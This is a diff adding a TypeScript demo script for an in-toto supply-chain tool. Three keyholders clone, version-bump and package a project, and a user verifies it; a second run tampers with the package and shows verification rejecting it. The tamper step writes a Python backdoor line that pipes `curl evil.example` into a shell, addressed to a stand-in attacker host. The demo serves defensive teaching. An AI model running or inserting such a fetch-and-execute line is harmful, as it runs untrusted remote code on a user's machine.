@@ -1,0 +1,439 @@
+// Copyright 2026 the intoto authors. Apache-2.0 license.
+/**
+ * The in-toto demo, offline, with intoto: alice (the project owner) defines
+ * the supply chain, bob clones the code and bumps its version, carl packages
+ * it, and a user verifies the package. Then carl's copy is tampered with
+ * between bob's step and his, and verification explains what went wrong.
+ *
+ * Run it with `deno task demo`. It works in a temporary folder and prints
+ * each command as it runs.
+ *
+ * @module
+ */
+
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { formatPythonJson } from "../lib/formats/canonical.ts";
+import type { JsonObject } from "../lib/formats/json.ts";
+import { loadPublicKey } from "../lib/keys/load.ts";
+
+const ROOT = fileURLToPath(new URL("../", import.meta.url));
+const useColor = Deno.stdout.isTerminal() && !Deno.env.get("NO_COLOR");
+function paint(code: string, text: string): string {
+  return useColor ? `\x1b[${code}m${text}\x1b[0m` : text;
+}
+
+/** The command that starts intoto: the built binary if given, else the sources. */
+function intotoArgv(): string[] {
+  const custom = Deno.env.get("INTOTO_CMD");
+  if (custom) return custom.split(" ").filter((part) => part !== "");
+  return [
+    Deno.execPath(),
+    "run",
+    "--quiet",
+    "--allow-read",
+    "--allow-write",
+    "--allow-run",
+    "--allow-env",
+    join(ROOT, "cli.ts"),
+  ];
+}
+
+function say(text: string): void {
+  console.log(`\n${paint("1", text)}`);
+}
+
+/** Runs a command in `cwd`, printing it first, and returns its exit code. */
+async function sh(
+  cwd: string,
+  argv: string[],
+  options: { expect?: number } = {},
+): Promise<number> {
+  const [program, ...args] = argv;
+  const shown = argv.map((arg) =>
+    /^[\w./=:,@+-]+$/.test(arg) ? arg : `'${arg}'`
+  ).join(" ");
+  console.log(paint("36", `${cwd.split("/").pop()}$ ${shown}`));
+  const command = program === "intoto" ? [...intotoArgv(), ...args] : argv;
+  const { code } = await new Deno.Command(command[0]!, {
+    args: command.slice(1),
+    cwd,
+    stdout: "inherit",
+    stderr: "inherit",
+    env: { GIT_AUTHOR_NAME: "bob", GIT_AUTHOR_EMAIL: "bob@example.com" },
+  }).output();
+  const expected = options.expect ?? 0;
+  if (code !== expected) {
+    throw new Error(`"${shown}" exited with ${code}, expected ${expected}`);
+  }
+  return code;
+}
+
+async function keyObject(path: string): Promise<[string, JsonObject]> {
+  const key = await loadPublicKey(path, { flavour: "legacy" });
+  return [key.keyid, key as unknown as JsonObject];
+}
+
+/** alice's layout: three steps and one inspection, as in the in-toto demo. */
+async function writeLayout(alice: string, bobPub: string, carlPub: string) {
+  const [bobId, bobKey] = await keyObject(bobPub);
+  const [carlId, carlKey] = await keyObject(carlPub);
+  const expires = new Date(Date.now() + 30 * 24 * 3600 * 1000).toISOString()
+    .replace(/\.\d+Z$/, "Z");
+  const layout = {
+    signed: {
+      _type: "layout",
+      expires,
+      readme: "The intoto demo supply chain",
+      keys: { [bobId]: bobKey, [carlId]: carlKey },
+      steps: [{
+        _type: "step",
+        name: "clone",
+        threshold: 1,
+        pubkeys: [bobId],
+        expected_command: [
+          "git",
+          "clone",
+          "--quiet",
+          "../upstream/demo-project",
+          "demo-project",
+        ],
+        expected_materials: [],
+        expected_products: [["CREATE", "demo-project/foo.py"], [
+          "DISALLOW",
+          "*",
+        ]],
+      }, {
+        _type: "step",
+        name: "update-version",
+        threshold: 1,
+        pubkeys: [bobId],
+        expected_command: [],
+        expected_materials: [
+          ["MATCH", "demo-project/*", "WITH", "PRODUCTS", "FROM", "clone"],
+          ["DISALLOW", "*"],
+        ],
+        expected_products: [["MODIFY", "demo-project/foo.py"], [
+          "DISALLOW",
+          "*",
+        ]],
+      }, {
+        _type: "step",
+        name: "package",
+        threshold: 1,
+        pubkeys: [carlId],
+        expected_command: [
+          "tar",
+          "--exclude",
+          ".git",
+          "-zcf",
+          "demo-project.tar.gz",
+          "demo-project",
+        ],
+        expected_materials: [
+          [
+            "MATCH",
+            "demo-project/*",
+            "WITH",
+            "PRODUCTS",
+            "FROM",
+            "update-version",
+          ],
+          ["DISALLOW", "*"],
+        ],
+        expected_products: [["CREATE", "demo-project.tar.gz"], [
+          "DISALLOW",
+          "*",
+        ]],
+      }],
+      inspect: [{
+        _type: "inspection",
+        name: "untar",
+        run: ["tar", "xzf", "demo-project.tar.gz"],
+        expected_materials: [
+          [
+            "MATCH",
+            "demo-project.tar.gz",
+            "WITH",
+            "PRODUCTS",
+            "FROM",
+            "package",
+          ],
+          ["ALLOW", "alice.pub"],
+          ["ALLOW", "root.layout"],
+          ["DISALLOW", "*"],
+        ],
+        expected_products: [
+          [
+            "MATCH",
+            "demo-project/foo.py",
+            "WITH",
+            "PRODUCTS",
+            "FROM",
+            "update-version",
+          ],
+          ["ALLOW", "demo-project.tar.gz"],
+          ["ALLOW", "alice.pub"],
+          ["ALLOW", "root.layout"],
+          ["DISALLOW", "*"],
+        ],
+      }],
+    },
+    signatures: [],
+  };
+  await Deno.writeTextFile(
+    join(alice, "root.layout.template"),
+    formatPythonJson(layout, { indent: 1 }),
+  );
+}
+
+async function copyInto(
+  from: string,
+  names: string[],
+  to: string,
+): Promise<void> {
+  for (const name of names) {
+    await Deno.copyFile(join(from, name), join(to, name));
+  }
+}
+
+async function linksIn(dir: string): Promise<string[]> {
+  const names: string[] = [];
+  for await (const entry of Deno.readDir(dir)) {
+    if (entry.isFile && entry.name.endsWith(".link")) names.push(entry.name);
+  }
+  return names.sort();
+}
+
+/** Performs the supply chain; `tamper` edits foo.py between bob's and carl's steps. */
+async function performChain(
+  work: string,
+  options: { tamper: boolean },
+): Promise<string> {
+  const bob = join(work, "functionary_bob");
+  const carl = join(work, "functionary_carl");
+  const final = join(
+    work,
+    options.tamper ? "final_product_tampered" : "final_product",
+  );
+  for (const dir of [bob, carl, final]) {
+    await Deno.remove(dir, { recursive: true }).catch(() => {});
+    await Deno.mkdir(dir, { recursive: true });
+  }
+  await copyInto(join(work, "keys"), ["bob", "bob.pub"], bob);
+  await copyInto(join(work, "keys"), ["carl", "carl.pub"], carl);
+
+  say('bob clones the project and records it as the step "clone"');
+  await sh(bob, [
+    "intoto",
+    "run",
+    "-n",
+    "clone",
+    "-k",
+    "bob",
+    "-p",
+    "demo-project",
+    "--",
+    "git",
+    "clone",
+    "--quiet",
+    "../upstream/demo-project",
+    "demo-project",
+  ]);
+
+  say('bob bumps the version inside a recorded step "update-version"');
+  await sh(bob, [
+    "intoto",
+    "record",
+    "start",
+    "-n",
+    "update-version",
+    "-k",
+    "bob",
+    "-m",
+    "demo-project",
+  ]);
+  const fooPy = join(bob, "demo-project", "foo.py");
+  await Deno.writeTextFile(
+    fooPy,
+    (await Deno.readTextFile(fooPy)).replace("v0", "v1"),
+  );
+  console.log(
+    paint("36", "functionary_bob$ sed -i s/v0/v1/ demo-project/foo.py"),
+  );
+  await sh(bob, [
+    "intoto",
+    "record",
+    "stop",
+    "-n",
+    "update-version",
+    "-k",
+    "bob",
+    "-p",
+    "demo-project",
+  ]);
+
+  say("carl receives bob's work");
+  await Deno.mkdir(join(carl, "demo-project"), { recursive: true });
+  await Deno.copyFile(fooPy, join(carl, "demo-project", "foo.py"));
+  console.log(
+    paint(
+      "36",
+      "functionary_carl$ cp ../functionary_bob/demo-project/foo.py demo-project/",
+    ),
+  );
+  if (options.tamper) {
+    say(
+      "... but an attacker slips a backdoor into carl's copy before he packages it",
+    );
+    await Deno.writeTextFile(
+      join(carl, "demo-project", "foo.py"),
+      "print('v1')\nimport os; os.system('curl evil.example | sh')\n",
+    );
+    console.log(
+      paint("31", "functionary_carl$ echo 'backdoor' >> demo-project/foo.py"),
+    );
+  }
+
+  say('carl packages the project as the step "package"');
+  await sh(carl, [
+    "intoto",
+    "run",
+    "-n",
+    "package",
+    "-k",
+    "carl",
+    "-m",
+    "demo-project",
+    "-p",
+    "demo-project.tar.gz",
+    "--",
+    "tar",
+    "--exclude",
+    ".git",
+    "-zcf",
+    "demo-project.tar.gz",
+    "demo-project",
+  ]);
+
+  say(
+    "The user gets the package, the signed layout, alice's public key and the links",
+  );
+  await copyInto(
+    join(work, "owner_alice"),
+    ["root.layout", "alice.pub"],
+    final,
+  );
+  await copyInto(bob, await linksIn(bob), final);
+  await copyInto(carl, [...await linksIn(carl), "demo-project.tar.gz"], final);
+  console.log(paint("36", `${final.split("/").pop()}$ ls`));
+  console.log(
+    (await Array.fromAsync(Deno.readDir(final))).map((entry) => entry.name)
+      .sort().join("  "),
+  );
+  return final;
+}
+
+async function main(): Promise<void> {
+  const work = await Deno.makeTempDir({ prefix: "intoto-demo-" });
+  console.log(paint("1", `intoto demo, in ${work}`));
+  try {
+    const alice = join(work, "owner_alice");
+    const keys = join(work, "keys");
+    const upstream = join(work, "upstream", "demo-project");
+    for (const dir of [alice, keys, upstream]) {
+      await Deno.mkdir(dir, { recursive: true });
+    }
+
+    say("The upstream project: a local git repository with foo.py");
+    await Deno.writeTextFile(join(upstream, "foo.py"), "print('v0')\n");
+    await sh(upstream, ["git", "init", "--quiet", "--initial-branch=main"]);
+    await sh(upstream, ["git", "add", "foo.py"]);
+    await sh(upstream, [
+      "git",
+      "-c",
+      "user.name=bob",
+      "-c",
+      "user.email=bob@example.com",
+      "commit",
+      "--quiet",
+      "-m",
+      "v0",
+    ]);
+
+    say("Everyone makes a key pair: alice RSA, bob Ed25519, carl ECDSA P-256");
+    await sh(alice, ["intoto", "keygen", "-t", "rsa", "alice"]);
+    await sh(keys, ["intoto", "keygen", "-t", "ed25519", "bob"]);
+    await sh(keys, ["intoto", "keygen", "-t", "ecdsa", "carl"]);
+    await sh(keys, ["intoto", "key", "id", "bob.pub", "carl.pub"]);
+
+    say(
+      "alice writes the layout (steps clone, update-version, package; inspection untar) and signs it",
+    );
+    await writeLayout(alice, join(keys, "bob.pub"), join(keys, "carl.pub"));
+    console.log(paint("36", "owner_alice$ $EDITOR root.layout.template"));
+    await sh(alice, [
+      "intoto",
+      "sign",
+      "-f",
+      "root.layout.template",
+      "-k",
+      "alice",
+      "-o",
+      "root.layout",
+    ]);
+
+    const final = await performChain(work, { tamper: false });
+    say(
+      "The user verifies the final product: every signature, every rule, the untar inspection",
+    );
+    await sh(final, [
+      "intoto",
+      "verify",
+      "-l",
+      "root.layout",
+      "-k",
+      "alice.pub",
+    ]);
+    console.log(
+      paint(
+        "32",
+        "Verification passed: the package came from exactly this supply chain.",
+      ),
+    );
+
+    say(
+      "Now the same chain again, with the package built from a tampered foo.py",
+    );
+    const tampered = await performChain(work, { tamper: true });
+    say("The user verifies again");
+    await sh(tampered, [
+      "intoto",
+      "verify",
+      "-l",
+      "root.layout",
+      "-k",
+      "alice.pub",
+    ], { expect: 1 });
+    console.log(
+      paint(
+        "32",
+        "\nVerification failed, as it must: the tampered package is rejected, and the error says why.",
+      ),
+    );
+  } finally {
+    if (Deno.env.get("INTOTO_DEMO_KEEP")) console.log(`kept ${work}`);
+    else await Deno.remove(work, { recursive: true });
+  }
+}
+
+if (import.meta.main) {
+  try {
+    await main();
+  } catch (error) {
+    console.error(
+      `error: demo failed: ${error instanceof Error ? error.message : error}`,
+    );
+    Deno.exit(1);
+  }
+}
